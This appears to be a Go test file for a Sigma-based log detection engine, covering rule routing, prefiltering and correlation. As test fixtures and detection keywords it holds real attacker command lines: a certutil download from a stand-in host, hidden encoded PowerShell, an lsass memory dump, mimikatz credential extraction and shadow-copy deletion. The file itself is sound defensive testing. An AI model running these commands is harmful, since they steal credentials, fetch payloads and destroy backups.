package detect

import (
	"bufio"
	"encoding/json"
	"github.com/custodia/custodia/internal/corpora"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/custodia/custodia/internal/detect/event"
	"github.com/custodia/custodia/internal/detect/parse"
	"github.com/custodia/custodia/internal/detect/sigma"
)

func newTestEngine(tb testing.TB, cfg Config, ruleYAML ...string) *Engine {
	tb.Helper()
	var rules []*sigma.Rule
	for _, y := range ruleYAML {
		rs, errs := sigma.Parse([]byte(y), "test", nil)
		if len(errs) > 0 {
			tb.Fatalf("Parse: %v", errs)
		}
		rules = append(rules, rs...)
	}
	e, err := NewEngine(cfg, rules...)
	if err != nil {
		tb.Fatalf("NewEngine: %v", err)
	}
	return e
}

func parseLine(tb testing.TB, line string) *event.Event {
	tb.Helper()
	ev := &event.Event{}
	if err := parse.NewParser(parse.Auto).Parse(line, ev); err != nil {
		tb.Fatalf("Parse(%q): %v", line, err)
	}
	return ev
}

func winEvent(channel string, eid int, data map[string]string) string {
	ev := map[string]any{"Event": map[string]any{
		"System":    map[string]any{"EventID": eid, "Channel": channel, "Computer": "WS1", "TimeCreated": map[string]any{"#attributes": map[string]string{"SystemTime": "2026-01-02T03:04:05Z"}}},
		"EventData": data,
	}}
	b, _ := json.Marshal(ev)
	return string(b)
}

const (
	sysmon   = "Microsoft-Windows-Sysmon/Operational"
	defender = "Microsoft-Windows-Windows Defender/Operational"
)

func TestLogsourceRouting(t *testing.T) {
	defRule := "title: def\nid: def\nlogsource: {product: windows, service: windefend}\ndetection: {sel: {EventID: 1116}, condition: sel}\n"
	procRule := "title: proc\nid: proc\nlogsource: {product: windows, category: process_creation}\ndetection: {sel: {Image|endswith: '\\cmd.exe'}, condition: sel}\n"
	secRule := "title: sec\nid: sec\nlogsource: {product: windows, service: security}\ndetection: {sel: {EventID: 4688}, condition: sel}\n"
	e := newTestEngine(t, Config{}, defRule, procRule, secRule)
	tests := []struct {
		name string
		line string
		want string
	}{
		{"defender channel", winEvent(defender, 1116, nil), "def"},
		{"same id other channel", winEvent("Application", 1116, nil), ""},
		{"sysmon 1", winEvent(sysmon, 1, map[string]string{"Image": `C:\Windows\System32\cmd.exe`}), "proc"},
		{"security 4688 mapped", winEvent("Security", 4688, map[string]string{"NewProcessName": `C:\Windows\System32\cmd.exe`}), "proc,sec"},
		{"sysmon 3 not process creation", winEvent(sysmon, 3, map[string]string{"Image": `C:\Windows\System32\cmd.exe`}), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var ids []string
			for _, a := range e.Process(parseLine(t, tt.line)) {
				ids = append(ids, a.RuleID)
			}
			if got := strings.Join(ids, ","); got != tt.want {
				t.Errorf("alerts = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestPrefilterAgrees(t *testing.T) {
	res, err := LoadRules([]string{filepath.Join(corpora.Dir("sigma"), "rules/windows/process_creation")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	with, err := NewEngine(Config{}, res.Rules...)
	if err != nil {
		t.Fatal(err)
	}
	without, err := NewEngine(Config{NoPrefilter: true}, res.Rules...)
	if err != nil {
		t.Fatal(err)
	}
	if with.Stats().PrefilteredRules < len(res.Rules)/2 {
		t.Errorf("only %d of %d rules prefiltered", with.Stats().PrefilteredRules, len(res.Rules))
	}
	lines := []string{
		winEvent(sysmon, 1, map[string]string{"Image": `C:\Windows\System32\certutil.exe`, "CommandLine": `certutil -urlcache -split -f http://x/a.exe`, "ParentImage": `C:\Windows\explorer.exe`}),
		winEvent(sysmon, 1, map[string]string{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine": `powershell -nop -w hidden -enc SQBFAFgA`, "ParentImage": `C:\Program Files\Microsoft Office\WINWORD.EXE`}),
		winEvent(sysmon, 1, map[string]string{"Image": `C:\Windows\System32\rundll32.exe`, "CommandLine": `rundll32.exe comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full`}),
		winEvent(sysmon, 1, map[string]string{"Image": `C:\Windows\System32\notepad.exe`, "CommandLine": `notepad.exe`}),
	}
	total := 0
	for _, l := range lines {
		a := ids(with.Process(parseLine(t, l)))
		b := ids(without.Process(parseLine(t, l)))
		total += len(b)
		if a != b {
			t.Errorf("prefilter changed results:\n with    %s\n without %s", a, b)
		}
	}
	if total == 0 {
		t.Errorf("no alerts at all on suspicious events")
	}
}

func ids(as []Alert) string {
	var s []string
	for _, a := range as {
		s = append(s, a.RuleID)
	}
	return strings.Join(s, ",")
}

func TestBuiltinPack(t *testing.T) {
	res, err := LoadRules([]string{Builtin}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rejected) > 0 {
		t.Fatalf("builtin pack rejected: %v", res.Rejected)
	}
	f, err := os.Open("rules/testdata/cases.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	covered := map[string]bool{}
	for n := 1; sc.Scan(); n++ {
		var c struct {
			Rule  string          `json:"rule"`
			Match bool            `json:"match"`
			Event json.RawMessage `json:"event"`
		}
		if err := json.Unmarshal(sc.Bytes(), &c); err != nil {
			t.Fatal(err)
		}
		e, err := NewEngine(Config{}, res.Rules...)
		if err != nil {
			t.Fatal(err)
		}
		got := false
		for _, a := range e.Process(parseLine(t, string(c.Event))) {
			if a.RuleID == c.Rule {
				got = true
				if a.Title == "" || a.Level == "" || len(a.Tags) == 0 {
					t.Errorf("case %d: alert lacks metadata: %+v", n, a)
				}
			}
		}
		if got != c.Match {
			t.Errorf("case %d: rule %s matched = %v, want %v", n, c.Rule, got, c.Match)
		}
		covered[c.Rule+map[bool]string{true: "+", false: "-"}[c.Match]] = true
	}
	for _, r := range res.Rules {
		if r.Kind == sigma.KindDetection && r.Name == "" && (!covered[r.ID+"+"] || !covered[r.ID+"-"]) {
			t.Errorf("rule %s (%s) lacks a positive and a negative case", r.ID, r.Title)
		}
	}
}

func runFile(t *testing.T, e *Engine, path string) []Alert {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []Alert
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		out = append(out, e.Process(parseLine(t, sc.Text()))...)
	}
	return out
}

func TestBuiltinCorrelation(t *testing.T) {
	res, err := LoadRules([]string{Builtin}, nil)
	if err != nil {
		t.Fatal(err)
	}
	e, err := NewEngine(Config{}, res.Rules...)
	if err != nil {
		t.Fatal(err)
	}
	alerts := runFile(t, e, "rules/testdata/failed_then_success.jsonl")
	if len(alerts) != 1 || alerts[0].RuleID != "6a1d3c0e-5b7f-4e0a-9c2d-01a0c0c0de09" || alerts[0].Group["TargetUserName"] != "agent17" {
		t.Fatalf("alerts = %+v, want one brute-force alert for agent17", alerts)
	}
	if got := alerts[0].EventIndexes; len(got) != 2 || got[0] != 4 || got[1] != 6 {
		t.Errorf("EventIndexes = %v, want [4 6] (the 5th failure completing the count, then the success)", got)
	}
	e2, _ := NewEngine(Config{}, res.Rules...)
	if alerts := runFile(t, e2, "rules/testdata/success_then_failed.jsonl"); len(alerts) != 0 {
		t.Errorf("success before failures: alerts = %+v, want none", alerts)
	}
}

func corrEvent(user, ts string, extra ...string) string {
	m := map[string]any{"logsource": map[string]string{"product": "test"}, "time": ts, "User": user}
	for i := 0; i+1 < len(extra); i += 2 {
		m[extra[i]] = extra[i+1]
	}
	b, _ := json.Marshal(m)
	return string(b)
}

func TestCorrelationTypes(t *testing.T) {
	base := "title: a\nid: ra\nname: ra\nlogsource: {product: test}\ndetection: {sel: {kind: a}, condition: sel}\n---\n" +
		"title: b\nid: rb\nname: rb\nlogsource: {product: test}\ndetection: {sel: {kind: b}, condition: sel}\n---\n"
	tests := []struct {
		name   string
		corr   string
		events []string
		want   []int64 // event indexes where the correlation fires
	}{
		{"event_count", "type: event_count\n  rules: [ra]\n  group-by: [User]\n  timespan: 1m\n  condition: {gte: 3}",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "a"), corrEvent("v", "2026-01-01T00:00:01Z", "kind", "a"), corrEvent("u", "2026-01-01T00:00:02Z", "kind", "a"), corrEvent("u", "2026-01-01T00:00:03Z", "kind", "a")},
			[]int64{3}},
		{"event_count expires", "type: event_count\n  rules: [ra]\n  group-by: [User]\n  timespan: 1m\n  condition: {gte: 2}",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "a"), corrEvent("u", "2026-01-01T00:05:00Z", "kind", "a")},
			nil},
		{"value_count", "type: value_count\n  rules: [ra]\n  group-by: [User]\n  timespan: 1h\n  condition: {field: host, gte: 2}",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "a", "host", "h1"), corrEvent("u", "2026-01-01T00:00:01Z", "kind", "a", "host", "h1"), corrEvent("u", "2026-01-01T00:00:02Z", "kind", "a", "host", "h2")},
			[]int64{2}},
		{"temporal", "type: temporal\n  rules: [ra, rb]\n  group-by: [User]\n  timespan: 1m",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "b"), corrEvent("u", "2026-01-01T00:00:01Z", "kind", "a")},
			[]int64{1}},
		{"temporal_ordered wrong order", "type: temporal_ordered\n  rules: [ra, rb]\n  group-by: [User]\n  timespan: 1m",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "b"), corrEvent("u", "2026-01-01T00:00:01Z", "kind", "a")},
			nil},
		{"temporal_ordered", "type: temporal_ordered\n  rules: [ra, rb]\n  group-by: [User]\n  timespan: 1m",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "a"), corrEvent("v", "2026-01-01T00:00:01Z", "kind", "b"), corrEvent("u", "2026-01-01T00:00:02Z", "kind", "b")},
			[]int64{2}},
		{"value_sum", "type: value_sum\n  rules: [ra]\n  group-by: [User]\n  timespan: 1h\n  condition: {field: bytes, gt: 100}",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "a", "bytes", "60"), corrEvent("u", "2026-01-01T00:00:01Z", "kind", "a", "bytes", "50")},
			[]int64{1}},
		{"value_avg", "type: value_avg\n  rules: [ra]\n  group-by: [User]\n  timespan: 1h\n  condition: {field: bytes, gt: 50}",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "a", "bytes", "10"), corrEvent("u", "2026-01-01T00:00:01Z", "kind", "a", "bytes", "200")},
			[]int64{1}},
		{"value_percentile", "type: value_percentile\n  rules: [ra]\n  group-by: [User]\n  timespan: 1h\n  condition: {field: img, lte: 20}",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "a", "img", "x"), corrEvent("u", "2026-01-01T00:00:01Z", "kind", "a", "img", "x"), corrEvent("u", "2026-01-01T00:00:02Z", "kind", "a", "img", "x"), corrEvent("u", "2026-01-01T00:00:03Z", "kind", "a", "img", "x"), corrEvent("u", "2026-01-01T00:00:04Z", "kind", "a", "img", "x"), corrEvent("u", "2026-01-01T00:00:05Z", "kind", "a", "img", "rare")},
			[]int64{5}},
		{"aliases", "type: temporal\n  rules: [ra, rb]\n  group-by: [ip]\n  timespan: 1m\n  aliases:\n    ip:\n      ra: src\n      rb: dst",
			[]string{corrEvent("u", "2026-01-01T00:00:00Z", "kind", "a", "src", "1.1.1.1"), corrEvent("v", "2026-01-01T00:00:01Z", "kind", "b", "dst", "2.2.2.2"), corrEvent("w", "2026-01-01T00:00:02Z", "kind", "b", "dst", "1.1.1.1")},
			[]int64{2}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newTestEngine(t, Config{}, base+"title: corr\nid: corr\ncorrelation:\n  "+tt.corr+"\n")
			var got []int64
			for _, l := range tt.events {
				for _, a := range e.Process(parseLine(t, l)) {
					if a.RuleID == "corr" {
						got = append(got, a.EventIndex)
					} else {
						t.Errorf("referenced rule %s alerted on its own", a.RuleID)
					}
				}
			}
			if len(got) != len(tt.want) || (len(got) > 0 && got[0] != tt.want[0]) {
				t.Errorf("fired at %v, want %v", got, tt.want)
			}
		})
	}
}

func TestFilter(t *testing.T) {
	rule := "title: r\nid: r1\nlogsource: {product: windows, category: process_creation}\ndetection: {sel: {Image|endswith: '\\rar.exe'}, condition: sel}\n"
	filter := "title: f\nlogsource: {product: windows, category: process_creation}\nfilter:\n  rules: [r1]\n  selection: {User|startswith: 'adm_'}\n  condition: selection\n"
	e := newTestEngine(t, Config{}, rule, filter)
	hit := e.Process(parseLine(t, winEvent(sysmon, 1, map[string]string{"Image": `C:\rar.exe`, "User": "bob"})))
	miss := e.Process(parseLine(t, winEvent(sysmon, 1, map[string]string{"Image": `C:\rar.exe`, "User": "adm_bob"})))
	if len(hit) != 1 || len(miss) != 0 {
		t.Errorf("filter: alerts %d and %d, want 1 and 0", len(hit), len(miss))
	}
}

func TestCorrelationKeyCap(t *testing.T) {
	e := newTestEngine(t, Config{MaxCorrelationKeys: 100},
		"title: a\nid: ra\nlogsource: {product: test}\ndetection: {sel: {kind: a}, condition: sel}\n---\ntitle: c\nid: c\ncorrelation: {type: event_count, rules: [ra], group-by: [User], timespan: 1h, condition: {gte: 1000}}\n")
	for i := 0; i < 1000; i++ {
		e.Process(parseLine(t, corrEvent(strings.Repeat("u", 1+i%7)+string(rune('a'+i%26))+string(rune('a'+i/26%26)), "2026-01-01T00:00:00Z", "kind", "a")))
	}
	if n := len(e.corrs[0].groups); n > 100 {
		t.Errorf("groups = %d, want at most 100", n)
	}
}

func TestCorrelationCycleRejected(t *testing.T) {
	rules := "title: a\nid: ra\nlogsource: {product: test}\ndetection: {sel: {kind: a}, condition: sel}\n---\n" +
		"title: c1\nid: c1\ncorrelation: {type: event_count, rules: [ra, c2], group-by: [User], timespan: 1h, condition: {gte: 1}}\n---\n" +
		"title: c2\nid: c2\ncorrelation: {type: event_count, rules: [c1], group-by: [User], timespan: 1h, condition: {gte: 1}}\n"
	rs, errs := sigma.Parse([]byte(rules), "cycle", nil)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if _, err := NewEngine(Config{}, rs...); err == nil || !strings.Contains(err.Error(), "feeds itself") {
		t.Errorf("NewEngine error = %v, want a cycle error", err)
	}
}

// TestDottedPathPrefiltered: a rule may name an evtx field by its original
// dotted path; the prefilter must find it as evaluation does.
func TestDottedPathPrefiltered(t *testing.T) {
	rule := "title: dotted\nid: dotted\nlogsource: {product: windows, category: process_creation}\n" +
		"detection: {sel: {Event.EventData.Image|endswith: '\\evil.exe'}, condition: sel}\n"
	for _, cfg := range []Config{{}, {NoPrefilter: true}} {
		e := newTestEngine(t, cfg, rule)
		hit := parseLine(t, winEvent(sysmon, 1, map[string]string{"Image": `C:\Temp\EVIL.exe`}))
		miss := parseLine(t, winEvent(sysmon, 1, map[string]string{"Image": `C:\Windows\cmd.exe`}))
		if got := ids(e.Process(hit)); got != "dotted" {
			t.Errorf("NoPrefilter=%v: alerts %q, want dotted", cfg.NoPrefilter, got)
		}
		if got := ids(e.Process(miss)); got != "" {
			t.Errorf("NoPrefilter=%v: alerts %q on a miss", cfg.NoPrefilter, got)
		}
	}
}

// TestKeywordPrefilter: keyword needles share the named fields' filters;
// a keyword must still be found in a field some rule names, in a field no
// rule names, and never through an alias alone.
func TestKeywordPrefilter(t *testing.T) {
	kw := "title: kw\nid: kw\nlogsource: {product: windows}\ndetection: {keywords: ['sekurlsa::logonpasswords', 'evil-marker'], condition: keywords}\n"
	field := "title: img\nid: img\nlogsource: {product: windows, category: process_creation}\ndetection: {sel: {CommandLine|contains: 'vssadmin delete'}, condition: sel}\n"
	for _, cfg := range []Config{{}, {NoPrefilter: true}} {
		e := newTestEngine(t, cfg, kw, field)
		for _, tt := range []struct {
			line, want string
		}{
			{winEvent(sysmon, 1, map[string]string{"CommandLine": `mimikatz.exe "SEKURLSA::LogonPasswords" exit`}), "kw"},
			{winEvent(sysmon, 1, map[string]string{"Description": "has EVIL-MARKER inside"}), "kw"},
			{winEvent(sysmon, 1, map[string]string{"CommandLine": `vssadmin delete shadows /all evil-marker`}), "kw,img"},
			{winEvent(sysmon, 1, map[string]string{"CommandLine": `notepad.exe`}), ""},
			{winEvent("Security", 4688, map[string]string{"NewProcessName": `C:\evil-marker.exe`}), "kw"},
		} {
			if got := ids(e.Process(parseLine(t, tt.line))); got != tt.want {
				t.Errorf("NoPrefilter=%v: %s: alerts %q, want %q", cfg.NoPrefilter, tt.line, got, tt.want)
			}
		}
	}
}

// TestGenerationWrap: the per-event marks survive their counter wrapping.
func TestGenerationWrap(t *testing.T) {
	rule := "title: w\nid: w\nlogsource: {product: windows, category: process_creation}\ndetection: {sel: {CommandLine|contains: 'vssadmin delete'}, condition: sel}\n"
	e := newTestEngine(t, Config{}, rule)
	hit := winEvent(sysmon, 1, map[string]string{"CommandLine": `vssadmin delete shadows`})
	miss := winEvent(sysmon, 1, map[string]string{"CommandLine": `vssadmin list shadows`})
	e.Process(parseLine(t, hit)) // builds the route
	e.gen = ^uint32(0) - 2
	for i := 0; i < 6; i++ {
		if got := ids(e.Process(parseLine(t, hit))); got != "w" {
			t.Fatalf("event %d (gen %d): alerts %q, want w", i, e.gen, got)
		}
		if got := ids(e.Process(parseLine(t, miss))); got != "" {
			t.Fatalf("event %d (gen %d): alerts %q on a miss", i, e.gen, got)
		}
	}
}

// TestRouteCacheBounded: endless distinct log sources neither grow the
// route cache past its bound nor change results.
func TestRouteCacheBounded(t *testing.T) {
	rule := "title: r\nid: r\nlogsource: {category: test}\ndetection: {sel: {msg|contains: evil}, condition: sel}\n"
	e := newTestEngine(t, Config{}, rule)
	p := parse.NewParser(parse.Auto)
	var ev event.Event
	for i := 0; i < maxRoutes+100; i++ {
		line := `{"logsource":{"product":"p` + strconv.Itoa(i) + `","category":"test"},"msg":"an evil thing"}`
		if err := p.Parse(line, &ev); err != nil {
			t.Fatal(err)
		}
		if got := ids(e.Process(&ev)); got != "r" {
			t.Fatalf("event %d: alerts %q, want r", i, got)
		}
		if len(e.routes) > maxRoutes || len(e.bySet) > maxRoutes {
			t.Fatalf("event %d: %d routes, %d prefilters cached", i, len(e.routes), len(e.bySet))
		}
	}
}
